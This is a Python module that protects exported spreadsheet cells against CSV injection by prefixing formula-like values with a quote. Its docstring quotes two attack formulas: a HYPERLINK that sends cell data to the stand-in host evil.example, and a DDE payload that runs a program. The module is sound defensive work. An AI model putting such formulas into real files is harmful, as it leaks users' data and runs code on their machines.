"""Cells we write into files a spreadsheet opens: never a formula (CSV injection).

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-`` or
``@`` (or a tab or carriage return) as a formula: ``=HYPERLINK("http://evil.example/?"&A2)``
sends data away when the file is opened, ``=cmd|' /C calc'!A0`` runs a program. The usual
defence (OWASP's) is a leading ``'``, which every spreadsheet shows as text. A plain number
such as ``+447400123456`` or ``-5`` is not a formula and is left exactly as it is.
"""

from __future__ import annotations

import re

_FORMULA_START = frozenset("=+-@")
_CONTROL_START = frozenset("\t\r\n")
FORMULA_TRIGGERS = _FORMULA_START | _CONTROL_START | {" "}
"""First characters of a cell that might be a formula (a space: one may follow it)."""
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def looks_like_formula(value: str) -> bool:
    """Tell whether a spreadsheet would read `value` as a formula."""
    if not value:
        return False
    if value[0] in _CONTROL_START:
        return True
    first = value.lstrip(" ")[:1]
    return first in _FORMULA_START and not _PLAIN_NUMBER.fullmatch(value.strip(" "))


def plain_cell(value: str) -> str:
    """`value` as text a spreadsheet will not run: a formula-like cell gets a leading ``'``."""
    return "'" + value if looks_like_formula(value) else value


def formulas_note(cells: int) -> str | None:
    """Say how many cells were made plain text, in one sentence (None for none)."""
    if not cells:
        return None
    if cells == 1:
        return (
            "1 cell that looked like a formula was made plain text (a ' was put before it), "
            "so a spreadsheet shows it as text instead of running it."
        )
    return (
        f"{cells:,} cells that looked like formulas were made plain text (a ' was put before "
        "each), so a spreadsheet shows them as text instead of running them."
    )
